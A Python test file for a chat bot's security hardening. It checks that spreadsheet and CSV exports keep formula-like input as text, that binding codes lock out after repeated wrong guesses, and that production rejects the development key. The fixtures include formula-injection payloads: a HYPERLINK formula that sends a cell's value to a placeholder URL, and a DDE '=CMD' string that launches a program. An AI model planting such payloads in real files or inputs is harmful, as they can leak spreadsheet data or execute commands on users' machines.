"""Hardening (issue 15, item 7): exports never write formulas, binding codes cannot be guessed
without limit and every binding is audited, production refuses the public development key."""

from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import openpyxl
import pytest
from sqlmodel import select

from bot import texts
from bot.cli import main as cli_main
from bot.config import DEVELOPMENT_EVALUATION_KEY, Settings, SettingsError, get_settings
from bot.core import binding
from handlers.console import console_login
from storage.db import session_scope
from storage.models import AuditLog, ChatAccount, ServiceObject, Unit
from tests.utils import Chat, bind, make_roster

FORMULA = '=HYPERLINK("http://x"&A1,"点此查看")'
SURVEY = [("press", "满意"), ("press", "基本满意"), ("press", "方便"), ("press", "不涉及"), ("press", "满意"),
          ("say", "无")]


def play(chat: Chat, script) -> str:
    answer = ""
    for action, arg in script:
        answer = chat.press(arg) if action == "press" else chat.say(arg)
    return answer


def cells_with(workbook_bytes: bytes, value: str) -> list:
    """Every cell of the workbook holding exactly ``value``, as openpyxl reads it back."""
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == value]


def formulas_in(workbook_bytes: bytes) -> list[str]:
    """The <f> elements (formulas) in the sheets' XML: what Excel would evaluate."""
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as z:
        return [name for name in z.namelist() if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)]


# ---------------------------------------------------------------------------------------------
# Exports never write formulas


def test_a_difficulty_typed_as_a_formula_reaches_form_2_as_text(core, db, clock):
    roster = make_roster(db)
    bind(db, roster.cadre, "test", "cadre", clock())
    bind(db, roster.supervisor, "test", "sup", clock())
    cadre = Chat(core, "cadre")
    play(cadre, [("say", "/visit"), ("press", "住户2"), ("press", "是"), *SURVEY,
                 ("press", "物业"), ("say", FORMULA), ("press", "未解决"),
                 ("press", "是"), ("press", texts.SKIP), ("press", texts.SKIP)])
    assert "✅" in cadre.press("确认提交")

    sup = Chat(core, "sup")
    sup.say("/export 2")
    [file] = sup.outcomes[-1].replies[0].files
    [cell] = cells_with(file.content, FORMULA)
    assert cell.data_type == "s"  # text, the same string as typed
    assert cell.quotePrefix  # and Excel keeps it text when the cell is edited
    assert formulas_in(file.content) == []


@pytest.mark.parametrize("name", ["=1+2", "+86 张三", "-张三", "@SUM(A1)"])
def test_a_roster_name_that_looks_like_a_formula_is_text_in_form_3(core, db, clock, settings, name):
    roster = make_roster(db, objects=1)
    with session_scope(db) as s:
        obj = s.exec(select(ServiceObject)).one()
        obj.name = name
        s.add(obj)
        s.add(Unit(name="=CMD|' /C calc'!A0", kind="镇街区"))  # a second unit: the 汇总 sheet lists it
    bind(db, roster.admin, "test", "admin", clock())
    admin = Chat(core, "admin")
    admin.say("/export 3")
    [file] = admin.outcomes[-1].replies[0].files
    [cell] = cells_with(file.content, name)
    assert cell.data_type == "s"
    [unit_cell] = cells_with(file.content, "=CMD|' /C calc'!A0")
    assert unit_cell.data_type == "s"
    assert formulas_in(file.content) == []


def test_csv_fields_that_look_like_formulas_get_a_leading_quote():
    from bot.reports.forms import csv_text

    assert [csv_text(v) for v in ("=1+2", "+1", "-1", "@x", "\tx", "张三", "")] == \
        ["'=1+2", "'+1", "'-1", "'@x", "'\tx", "张三", ""]


# ---------------------------------------------------------------------------------------------
# Binding codes: a lockout after too many wrong ones, and the audit log


def _issue(db, cadre, clock) -> str:
    with session_scope(db) as s:
        code, _ = binding.issue_code(s, cadre, clock(), Settings(environment="test"))
    return code


def _audit(db, action: str | None = None) -> list[AuditLog]:
    with session_scope(db) as s:
        query = select(AuditLog).order_by(AuditLog.id)
        if action:
            query = query.where(AuditLog.action == action)
        return list(s.exec(query).all())


def _bound(db, user_id: str) -> ChatAccount | None:
    with session_scope(db) as s:
        return s.exec(select(ChatAccount).where(ChatAccount.external_user_id == user_id)).first()


def test_the_21st_wrong_binding_code_in_a_row_is_refused_even_when_right(core, db, clock):
    roster = make_roster(db)
    code = _issue(db, roster.cadre, clock)
    chat = Chat(core, "guesser")
    for n in range(19):
        assert chat.say(f"/bind WRONG{n:03d}") == texts.BIND_CODE_INVALID
    # The 20th wrong code starts the lockout, and says so with the time left.
    assert chat.say("/bind WRONG999") == texts.BIND_LOCKED.format(minutes=60)
    clock.now += timedelta(minutes=30)
    assert chat.say(f"/bind {code}") == texts.BIND_LOCKED.format(minutes=30)
    assert _bound(db, "guesser") is None
    # Another account is not locked out by this one.
    other = Chat(core, "other")
    assert other.say("/bind NOTRIGHT") == texts.BIND_CODE_INVALID

    locked = _audit(db, "binding.locked")
    assert [(a.actor, a.target, a.channel) for a in locked] == [("test:guesser", "account:test:guesser", "test")]
    refused = _audit(db, "binding.refused")
    assert [a.detail for a in refused].count("wrong code") == 21 and [a.detail for a in refused][-2] == "locked"

    # When the lockout is over the right code binds, and the binding is audited.
    clock.now += timedelta(minutes=31)
    assert "绑定成功" in chat.say(f"/bind {code}")
    assert _bound(db, "guesser").cadre_id == roster.cadre.id
    [redeemed] = _audit(db, "binding.redeem")
    assert (redeemed.actor, redeemed.target, redeemed.channel) == ("test:guesser", f"cadre:{roster.cadre.id}", "test")


def test_wrong_codes_spread_over_more_than_the_window_do_not_lock(core, db, clock):
    roster = make_roster(db)
    code = _issue(db, roster.cadre, clock)
    chat = Chat(core, "slow")
    for _ in range(19):
        assert chat.say("/bind WRONGCODE") == texts.BIND_CODE_INVALID
    clock.now += timedelta(minutes=61)  # a new window: the run starts again
    for _ in range(19):
        assert chat.say("/bind WRONGCODE") == texts.BIND_CODE_INVALID
    assert "绑定成功" in chat.say(f"/bind {code}")
    assert _audit(db, "binding.locked") == []


def test_a_right_code_ends_the_run_of_wrong_ones(core, db, clock, settings):
    roster = make_roster(db)
    first, second = _issue(db, roster.cadre, clock), _issue(db, roster.supervisor, clock)
    chat = Chat(core, "u")
    for _ in range(19):
        chat.say("/bind WRONGCODE")
    assert "绑定成功" in chat.say(f"/bind {first}")
    with session_scope(db) as s:  # the account is bound now: the next code goes through redeem_code directly
        for _ in range(19):
            assert binding.redeem_code(s, "WRONGCODE", "test", "u", clock(), settings) is None
        assert binding.redeem_code(s, second, "test", "u", clock(), settings).id == roster.supervisor.id


def test_wrong_codes_are_also_counted_per_address(db, clock, settings):
    """A channel that knows the client's address (the web) passes it: many accounts, one address."""
    make_roster(db)
    with session_scope(db) as s:
        for n in range(settings.bind_max_failures - 1):
            assert binding.redeem_code(s, "WRONGCODE", "web", f"visitor{n}", clock(), settings,
                                       address="203.0.113.9") is None
        with pytest.raises(binding.BindingLocked) as locked:
            binding.redeem_code(s, "WRONGCODE", "web", "visitor-last", clock(), settings, address="203.0.113.9")
    assert locked.value.minutes_left == settings.bind_lockout_minutes
    [row] = _audit(db, "binding.locked")
    assert row.address == "203.0.113.9"


def test_bindings_by_contact_and_console_are_audited(core, db, clock):
    roster = make_roster(db)
    chat = Chat(core, "phone-user")
    assert "绑定成功" in chat.contact(roster.cadre.mobile, user_id="phone-user")
    console_login(core, roster.supervisor.mobile)
    rows = [(a.action, a.actor, a.target) for a in _audit(db)]
    assert rows == [("binding.contact", "test:phone-user", f"cadre:{roster.cadre.id}"),
                    ("binding.console", "console:local", f"cadre:{roster.supervisor.id}")]


# ---------------------------------------------------------------------------------------------
# Production refuses the public development key


def test_production_refuses_the_development_key_or_none(settings):
    dev = DEVELOPMENT_EVALUATION_KEY.decode()
    with pytest.raises(SettingsError, match="EVALUATION_SECRET"):
        Settings(environment="production", evaluation_secret=dev).check()
    with pytest.raises(SettingsError, match="EVALUATION_SECRET"):
        Settings(environment="production").check()
    assert Settings(environment="production", evaluation_secret="k" * 32, data_key="d" * 40).check()
    assert Settings(environment="development", evaluation_secret=dev).check()  # trying it out: allowed


def test_qr_cards_refuse_to_print_with_the_development_key_in_production(db, settings, monkeypatch, capsys,
                                                                         tmp_path):
    make_roster(db)
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("ENVIRONMENT", "production")
    monkeypatch.setenv("EVALUATION_SECRET", DEVELOPMENT_EVALUATION_KEY.decode())
    get_settings.cache_clear()
    try:
        assert cli_main(["qr-cards", "--out", str(tmp_path / "cards"), "--quiet"]) == 2
        err = capsys.readouterr().err
        assert "EVALUATION_SECRET" in err and "开发密钥" in err
        assert not (tmp_path / "cards").exists()
    finally:
        get_settings.cache_clear()
